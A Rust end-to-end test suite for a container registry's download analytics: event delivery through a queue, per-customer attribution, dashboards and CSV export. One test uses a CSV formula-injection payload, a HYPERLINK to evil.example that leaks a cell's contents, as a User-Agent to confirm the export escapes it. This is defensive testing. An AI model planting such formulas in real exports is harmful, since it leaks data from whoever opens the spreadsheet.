//! Download analytics end to end: pulls travel from the registry worker through the
//! Queue to the analytics worker and show up in the download log, the daily counts
//! and the CSV export, attributed to the right user and customer. One test starts a
//! server of its own with no Queue binding: its pulls must succeed all the same.

use std::fs;
use std::process::Command;
use std::thread::sleep;
use std::time::{Duration, Instant};

use serde_json::Value;
use tollgate_e2e::accounts::{api, send};
use tollgate_e2e::licenses::{self, new_customer, push_index, Customer};
use tollgate_e2e::own_server::OwnServer;
use tollgate_e2e::{
    blob_path, image_ref, manifest_path, openapi, registry, sha256_digest, unique_repo, Resp,
    MANIFEST_ACCEPT,
};

/// How long an event may take from a pull to the log.
const DELIVERY: Duration = Duration::from_secs(30);

fn log(path_and_query: &str, as_customer: Option<&Customer>) -> Resp {
    let req = match as_customer {
        Some(c) => c.api("GET", path_and_query),
        None => api("GET", path_and_query),
    };
    let resp = send(req, None);
    resp.expect(200);
    openapi::check(&resp);
    resp
}

/// The artifact's downloads, newest first, once at least `count` are there.
fn downloads_of(repo: &str, count: usize) -> Vec<Value> {
    let start = Instant::now();
    loop {
        let resp = log(
            &format!("/api/v1/downloads?artifact={repo}&limit=200"),
            None,
        );
        let items = resp.json()["items"].as_array().unwrap().clone();
        if items.len() >= count {
            return items;
        }
        assert!(
            start.elapsed() < DELIVERY,
            "{} of {count} downloads of {repo} arrived in {DELIVERY:?}: {items:?}",
            items.len()
        );
        sleep(Duration::from_millis(500));
    }
}

fn pulls_of(repo: &str) -> i64 {
    let resp = log(&format!("/api/v1/downloads/daily?artifact={repo}"), None);
    resp.json()["days"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["pulls"].as_i64().unwrap())
        .sum()
}

#[test]
fn skopeo_and_podman_pulls_by_two_customers_arrive_attributed_and_only_gets_count() {
    let reg = registry();
    let repo = unique_repo("analytics");
    let img = reg.push_random_image(&repo, "v1");
    let hidden = reg.push_random_image(&repo, "v2");
    let (acme, globex) = (new_customer("Acme"), new_customer("Globex"));
    for c in [&acme, &globex] {
        licenses::create(&c.id, &[licenses::tags(&repo, &["v1"])]);
    }
    // Acme inspects with skopeo, Globex pulls with podman.
    let image = image_ref(&repo, "v1");
    let sb = acme.sandbox("an-skopeo");
    sb.run(
        "skopeo",
        &[
            "inspect",
            "--tls-verify=false",
            &format!("docker://{image}"),
        ],
    );
    let sb = globex.sandbox("an-podman");
    sb.run_cmd(
        sb.containers_cmd("podman")
            .args(["pull", "--tls-verify=false", &image]),
        None,
    );
    // Neither a HEAD nor a refused pull is a download.
    acme.head_manifest(&repo, "v1").expect(200);
    acme.get_manifest(&repo, "v2").expect(404);
    acme.get_manifest(&repo, hidden.digest()).expect(404);
    // The vendor's own pull by digest comes last, so once it is in, so is all before.
    reg.get_manifest(&repo, img.digest()).expect(200);

    let items = downloads_of(&repo, 3);
    assert_eq!(items.len(), 3, "exactly the three GETs: {items:?}");
    let by = |customer: Option<&str>| {
        items
            .iter()
            .filter(|d| d["customer_id"].as_str() == customer)
            .collect::<Vec<_>>()
    };
    for (c, client) in [(&acme, "skopeo"), (&globex, "containers/")] {
        let theirs = by(Some(&c.id));
        assert_eq!(theirs.len(), 1, "{items:?}");
        let d = theirs[0];
        assert_eq!(d["user_id"], c.user.id.as_str());
        assert_eq!(d["user_email"], c.user.email.as_str());
        assert_eq!(d["reference"], "v1");
        assert_eq!(d["digest"], img.digest());
        assert_eq!(d["child"], false);
        assert!(
            d["user_agent"]
                .as_str()
                .unwrap_or_default()
                .contains(client),
            "{d}"
        );
        assert!(d["ip"].is_string(), "{d}");
    }
    assert_eq!(by(None)[0]["reference"], img.digest());
    assert_eq!(pulls_of(&repo), 3);

    // The artifact list counts them; a customer sees only its own.
    let listed = |as_customer: Option<&Customer>| -> Value {
        let items = licenses::all_artifacts(as_customer.map(|c| &c.user));
        items
            .into_iter()
            .find(|a| a["name"] == repo.as_str())
            .unwrap_or_else(|| panic!("{repo} not listed"))
    };
    let all = listed(None);
    assert_eq!(
        (all["pulls"].as_i64(), all["customers"].as_i64()),
        (Some(3), Some(2))
    );
    assert_eq!(all["users"].as_i64(), Some(3), "{all}");
    assert_eq!(all["type"], "container_image");
    let theirs = listed(Some(&acme));
    assert_eq!(
        (theirs["pulls"].as_i64(), theirs["customers"].as_i64()),
        (Some(1), Some(1))
    );
    // Searched by its unique name and sorted by pulls, it is the one answer.
    let found = log(&format!("/api/v1/artifacts?q={repo}&sort=pulls"), None);
    assert_eq!(found.json()["items"].as_array().map(Vec::len), Some(1));
    assert_eq!(found.json()["items"][0], all);
    let detail =
        licenses::expect_problem(&send(api("GET", "/api/v1/artifacts?sort=size"), None), 400);
    assert!(detail.contains("sort"), "{detail}");

    // The dashboard: each customer pulled the newest version it is licensed for (v2
    // is newer, but licensed to neither).
    for c in [&acme, &globex] {
        let resp = log(&format!("/api/v1/dashboard?customer_id={}", c.id), None);
        let mine = log("/api/v1/dashboard", Some(c));
        assert_eq!(
            resp.json(),
            mine.json(),
            "a customer's own view is the vendor's view of it"
        );
        let artifacts = resp.json()["items"][0]["artifacts"].clone();
        assert_eq!(artifacts.as_array().unwrap().len(), 1, "{artifacts}");
        let entry = &artifacts[0];
        assert_eq!(entry["artifact"], repo.as_str());
        assert_eq!(entry["status"], "up_to_date", "{entry}");
        assert_eq!(entry["newest"]["tag"], "v1");
        assert_eq!(entry["last_pull"]["digest"], img.digest());
    }

    // Each customer sees its own pulls only, whatever it asks for.
    let own = log(
        &format!(
            "/api/v1/downloads?artifact={repo}&customer_id={}",
            globex.id
        ),
        Some(&acme),
    );
    let own = own.json()["items"].as_array().unwrap().clone();
    assert_eq!(own.len(), 1);
    assert_eq!(own[0]["customer_id"], acme.id.as_str());
}

#[test]
fn a_multi_arch_pull_counts_once() {
    let reg = registry();
    let repo = unique_repo("analytics-index");
    let amd = reg.push_random_image(&repo, "amd64");
    let arm = reg.push_random_image(&repo, "arm64");
    let index = push_index(&repo, "multi", &[(&amd, "amd64"), (&arm, "arm64")]);
    let customer = new_customer("Multi");
    licenses::create(&customer.id, &[licenses::tags(&repo, &["multi"])]);
    // What a client does to pull one platform: the index, then its manifest.
    customer.get_manifest(&repo, "multi").expect(200);
    customer.get_manifest(&repo, amd.digest()).expect(200);

    let items = downloads_of(&repo, 2);
    let child: Vec<(String, bool)> = items
        .iter()
        .map(|d| {
            (
                d["digest"].as_str().unwrap().to_string(),
                d["child"].as_bool().unwrap(),
            )
        })
        .collect();
    assert!(child.contains(&(index.digest.clone(), false)), "{child:?}");
    assert!(
        child.contains(&(amd.digest().to_string(), true)),
        "{child:?}"
    );
    assert_eq!(pulls_of(&repo), 1);

    // The details show the index as one version with its platforms and size, and
    // the pull under its tag; the customer sees the same.
    let path = format!("/api/v1/artifacts/{}", licenses::enc(&repo));
    for as_customer in [None, Some(&customer)] {
        let details = log(&path, as_customer).json();
        assert_eq!(details["url"], format!("{}/{repo}", reg.host));
        let versions = details["manifests"].as_array().unwrap();
        let multi = versions
            .iter()
            .find(|m| m["digest"] == index.digest.as_str())
            .unwrap_or_else(|| panic!("no index in {details}"));
        let arches: Vec<&str> = multi["platforms"]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p["architecture"].as_str().unwrap())
            .collect();
        assert_eq!(arches, ["amd64", "arm64"]);
        assert!(multi["size"].as_u64().unwrap() > index.size, "{multi}");
        assert_eq!(multi["tags"], serde_json::json!(["multi"]));
        let multi_tag = details["tags"]
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["tag"] == "multi")
            .cloned()
            .unwrap();
        assert_eq!(multi_tag["pulls"], 1);
    }
}

/// The artifact's rows of the CSV export, each parsed by Python's csv module into
/// an object keyed by the header's columns.
fn csv_rows(repo: &str) -> Vec<Value> {
    let resp = send(
        api("GET", &format!("/api/v1/downloads.csv?artifact={repo}")),
        None,
    );
    resp.expect(200);
    openapi::check(&resp);
    let parsed = Command::new("python3")
        .args([
            "-c",
            "import csv, json, sys; print(json.dumps(list(csv.DictReader(sys.stdin))))",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut child| {
            use std::io::Write;
            child.stdin.take().unwrap().write_all(&resp.body)?;
            child.wait_with_output()
        })
        .expect("python3 parses the CSV");
    assert!(parsed.status.success());
    serde_json::from_slice(&parsed.stdout).unwrap()
}

/// A client that pulls with a formula for its User-Agent does not get a live formula
/// into the vendor's spreadsheet: the export's cell reads as text.
#[test]
fn a_formula_in_a_pulls_user_agent_is_exported_as_text() {
    let reg = registry();
    let repo = unique_repo("analytics-csv-formula");
    reg.push_random_image(&repo, "v1");
    let formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open\")";
    reg.get(&manifest_path(&repo, "v1"))
        .header("Accept", MANIFEST_ACCEPT)
        .header("User-Agent", formula)
        .call()
        .expect(200);
    downloads_of(&repo, 1);
    let rows = csv_rows(&repo);
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(rows[0]["user_agent"], format!("'{formula}"));
}

/// A client chooses its own User-Agent, of any length: the event keeps its first
/// 512 bytes.
#[test]
fn a_long_user_agent_is_kept_cut_to_512_bytes() {
    let reg = registry();
    let repo = unique_repo("analytics-long-agent");
    reg.push_random_image(&repo, "v1");
    let agent = format!("long-agent/1 {}", "x".repeat(4000));
    reg.get(&manifest_path(&repo, "v1"))
        .header("Accept", MANIFEST_ACCEPT)
        .header("User-Agent", &agent)
        .call()
        .expect(200);
    let items = downloads_of(&repo, 1);
    assert_eq!(items[0]["user_agent"], &agent[..512]);
}

/// The country and data center come from the headers Cloudflare's edge adds
/// (`CF-IPCountry`, the `CF-Ray` suffix); without them (as under `wrangler dev`)
/// both are empty.
#[test]
fn the_country_and_data_center_come_from_the_edge_headers() {
    let reg = registry();
    let repo = unique_repo("analytics-location");
    reg.push_random_image(&repo, "v1");
    reg.get(&manifest_path(&repo, "v1"))
        .header("Accept", MANIFEST_ACCEPT)
        .header("CF-IPCountry", "DE")
        .header("CF-Ray", "8d1c2b3a4f5e6d7c-FRA")
        .call()
        .expect(200);
    downloads_of(&repo, 1);
    reg.get_manifest(&repo, "v1").expect(200);
    downloads_of(&repo, 2);
    let rows = csv_rows(&repo);
    let located: Vec<_> = rows.iter().map(|r| (&r["country"], &r["colo"])).collect();
    assert!(located.contains(&(&"DE".into(), &"FRA".into())), "{rows:?}");
    assert!(located.contains(&(&"".into(), &"".into())), "{rows:?}");
}

#[test]
fn the_csv_export_parses_with_the_right_columns() {
    let reg = registry();
    let repo = unique_repo("analytics-csv");
    let img = reg.push_random_image(&repo, "v1");
    for _ in 0..3 {
        reg.get_manifest(&repo, "v1").expect(200);
    }
    downloads_of(&repo, 3);
    let rows = csv_rows(&repo);
    assert_eq!(rows.len(), 3, "{rows:?}");
    let columns: Vec<&str> = rows[0]
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    let mut expected = vec![
        "time",
        "artifact",
        "reference",
        "digest",
        "user_id",
        "customer_id",
        "ip",
        "country",
        "colo",
        "user_agent",
        "child",
    ];
    expected.sort();
    let mut columns = columns;
    columns.sort();
    assert_eq!(columns, expected);
    for row in &rows {
        assert_eq!(row["artifact"], repo.as_str());
        assert_eq!(row["digest"], img.digest());
        assert_eq!(row["child"], "false");
        assert!(row["time"].as_str().unwrap().ends_with('Z'), "{row}");
    }
}

/// With no Queue to send to (the registry served without its producer binding), every
/// pull still succeeds, and the failed send is logged.
#[test]
fn pulls_succeed_when_the_queue_is_unavailable() {
    let server = OwnServer::start(&[("TOLLGATE_TEST_NO_QUEUE", "1")]);
    let reg = &server.registry;
    let repo = unique_repo("analytics-noqueue");
    let img = reg.push_random_image(&repo, "v1");
    for reference in ["v1", img.digest()] {
        let got = reg.assert_manifest_digest(&repo, reference, img.digest());
        assert_eq!(got.body, img.manifest);
    }
    let layer = &img.layers[0];
    let blob = reg.get(&blob_path(&repo, &layer.digest)).call();
    blob.expect(200);
    assert_eq!(sha256_digest(&blob.body), layer.digest);

    // The missing binding is logged (once per isolate); wrangler writes the log a
    // moment later.
    let start = Instant::now();
    loop {
        let log = fs::read_to_string(server.log_path()).unwrap_or_default();
        let failed = log
            .lines()
            .filter(|l| l.contains("download event ") && l.contains(" not sent"))
            .count();
        if failed >= 1 {
            break;
        }
        assert!(
            start.elapsed() < Duration::from_secs(15),
            "no `download event … not sent` line in {}:\n{log}",
            server.log_path().display()
        );
        sleep(Duration::from_millis(250));
    }
}
